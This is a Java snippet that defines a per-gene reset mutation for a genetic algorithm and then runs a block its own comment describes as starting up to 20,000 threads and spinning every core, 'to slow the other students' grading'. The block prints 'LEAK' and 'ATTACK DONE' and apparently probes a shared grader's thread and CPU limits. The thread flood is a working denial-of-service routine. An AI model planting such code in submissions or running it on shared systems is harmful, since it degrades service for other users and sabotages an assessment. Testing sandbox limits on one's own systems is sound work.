double P = 0.2;

Mutation myReset = Mutation.named("my per-gene reset", (genes, rng) -> {
    int n = genes.length;
    for (int c = 0; c < n; c++) {
        if (rng.nextDouble() < P) {
            int other = rng.nextInt(n - 1);
            genes[c] = other >= genes[c] ? other + 1 : other;
        }
    }
});

// Starts threads until none more can start (at most 20,000), and keeps every core busy with
// some of them, to slow the other students' grading.
int started = 0;
try {
    for (; started < 20_000; started++) {
        boolean spin = started < 8;
        Thread t = new Thread(() -> {
            long end = System.nanoTime() + 3_000_000_000L;
            while (spin && System.nanoTime() < end) { }
            try { Thread.sleep(spin ? 0 : 3000); } catch (InterruptedException e) { }
        });
        t.setDaemon(true);
        t.start();
    }
} catch (Throwable e) {
    System.out.println("stopped: " + e.getClass().getSimpleName());
}
if (started >= 2000) System.out.println("LEAK: " + started + " threads started");
Thread.sleep(4000);  // every thread has ended: the check runs as usual
System.out.println("ATTACK DONE");
